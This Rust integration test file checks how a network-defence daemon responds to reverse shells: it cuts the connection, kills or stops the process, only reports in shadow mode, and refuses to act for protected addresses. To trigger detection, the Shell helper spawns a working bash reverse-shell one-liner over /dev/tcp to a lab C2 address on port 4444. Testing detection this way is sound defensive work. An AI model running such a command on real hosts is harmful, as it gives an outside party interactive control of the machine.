//! What the daemon does at once about a shell: real shells over a real wire, cut, stopped and killed.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::os::fd::OwnedFd;
use std::os::unix::process::{CommandExt as _, ExitStatusExt as _};
use std::process::{Child, Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, bail};
use netd_lab::daemon::{Daemon, Setup};
use netd_lab::lab::{C2, Lab};
use netd_lab::require_root;
use serde_json::Value;

const PORT: u16 = 4_444;
const PATIENCE: Duration = Duration::from_secs(10);

/// A shell of the watched host that takes its commands from outside. Killed when it is dropped.
struct Shell {
    child: Child,
    attacker: TcpStream,
}

impl Shell {
    /// Starts one in a process group of its own.
    fn start(lab: &Lab) -> Result<Self> {
        let listener = lab.wan().run(|| Ok(TcpListener::bind((C2, PORT))?))?;
        let child = lab.watched().run(|| {
            let line = format!("exec bash -c 'exec bash -i >& /dev/tcp/{C2}/{PORT} 0>&1'");
            let mut command = Command::new("bash");
            let quiet = command.args(["-c", &line]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
            Ok(quiet.process_group(0).spawn()?)
        })?;
        let (attacker, _) = listener.accept()?;
        attacker.set_read_timeout(Some(PATIENCE))?;
        Ok(Self { child, attacker })
    }

    fn state(&self) -> Option<char> {
        let stat = fs::read_to_string(format!("/proc/{}/stat", self.child.id())).ok()?;
        stat.rsplit_once(") ")?.1.chars().next()
    }

    /// Reads until the connection ends; returns whether it ended by a reset.
    fn is_cut(&mut self) -> bool {
        let mut buffer = [0; 256];
        let _ = self.attacker.write_all(b"id\n");
        loop {
            match self.attacker.read(&mut buffer) {
                Ok(0) => return false,
                Ok(_) => {}
                Err(error) => return error.kind() == std::io::ErrorKind::ConnectionReset,
            }
        }
    }
}

impl Drop for Shell {
    fn drop(&mut self) {
        // What is stopped dies of it, too.
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A laboratory whose netd does about shells what `rule` says, in a mode and without protecting anybody else.
fn watched(mode: &str, rule: &str, protect: &[&str]) -> Result<(Daemon, Lab)> {
    let policy = format!(
        "apiVersion: netd/v1\nkind: ResponsePolicy\nmetadata: {{name: test}}\nspec:\n  mode: enforce\n  block_when: never\n  \
         respond:\n    host_reverse_shell: {rule}\n"
    );
    let lab = Lab::host()?;
    let daemon = Daemon::start(&lab, Setup { mode, policy: Some(&policy), cgroup: true, protect, ..Setup::default() })?;
    Ok((daemon, lab))
}

/// Waits for the finding about the shell, and for what was done about it.
fn response(daemon: &Daemon) -> Result<Value> {
    let began = Instant::now();
    while began.elapsed() < PATIENCE {
        for finding in daemon.api().items("/api/v1/findings")? {
            if finding["detector"] == "host_reverse_shell" && finding["response"].is_object() {
                return Ok(finding["response"].clone());
            }
        }
        thread::sleep(Duration::from_millis(20));
    }
    bail!("nothing was done: {:?}", daemon.api().items("/api/v1/findings")?)
}

fn result<'a>(response: &'a Value, action: &str) -> Option<&'a str> {
    response["actions"].as_array()?.iter().find(|done| done["action"] == action)?["result"].as_str()
}

#[test]
fn a_shell_is_cut_and_killed_within_milliseconds() {
    require_root!();
    let (daemon, lab) = watched("enforce", "{from: medium, do: [cut, kill]}", &[]).unwrap();
    let mut shell = Shell::start(&lab).unwrap();

    assert!(shell.is_cut());
    assert_eq!(shell.child.wait().unwrap().signal(), Some(9));
    let response = response(&daemon).unwrap();
    assert_eq!((result(&response, "cut"), result(&response, "kill")), (Some("done"), Some("done")), "{response:#}");
    assert!(response["latency_s"].as_f64().context("no latency").unwrap() < 0.5, "{response:#}");
    let metrics = daemon.api().send("GET", "/metrics", "", "").unwrap().body;
    assert!(metrics.contains("netd_responses_total{action=\"kill\",result=\"done\"} 1"), "{metrics}");
}

#[test]
fn a_shell_is_stopped_and_can_be_looked_at() {
    require_root!();
    let (daemon, lab) = watched("enforce", "{from: medium, do: [stop]}", &[]).unwrap();
    let shell = Shell::start(&lab).unwrap();

    let response = response(&daemon).unwrap();

    assert_eq!(result(&response, "stop"), Some("done"), "{response:#}");
    assert_eq!(shell.state(), Some('T'));
}

#[test]
fn a_mode_that_does_not_enforce_tells_what_it_would_have_done() {
    require_root!();
    let (daemon, lab) = watched("shadow", "{from: medium, do: [cut, kill]}", &[]).unwrap();
    let mut shell = Shell::start(&lab).unwrap();

    let response = response(&daemon).unwrap();

    assert_eq!((result(&response, "cut"), result(&response, "kill")), (Some("withheld"), Some("withheld")));
    shell.attacker.write_all(b"echo still-here\n").unwrap();
    let mut heard = String::new();
    while !heard.contains("still-here") {
        let mut buffer = [0; 256];
        let len = shell.attacker.read(&mut buffer).unwrap();
        assert!(len > 0, "{heard}");
        heard.push_str(&String::from_utf8_lossy(&buffer[..len]));
    }
}

#[test]
fn who_speaks_with_a_protected_address_keeps_conversation_and_process() {
    require_root!();
    let (daemon, lab) = watched("enforce", "{from: info, do: [cut, kill]}", &[&C2.to_string()]).unwrap();
    let shell = Shell::start(&lab).unwrap();

    let response = response(&daemon).unwrap();

    assert_eq!((result(&response, "cut"), result(&response, "kill")), (Some("refused"), Some("refused")));
    assert!(response["error"].as_str().unwrap().contains("protected"), "{response:#}");
    assert!(matches!(shell.state(), Some('S' | 'R')));
}
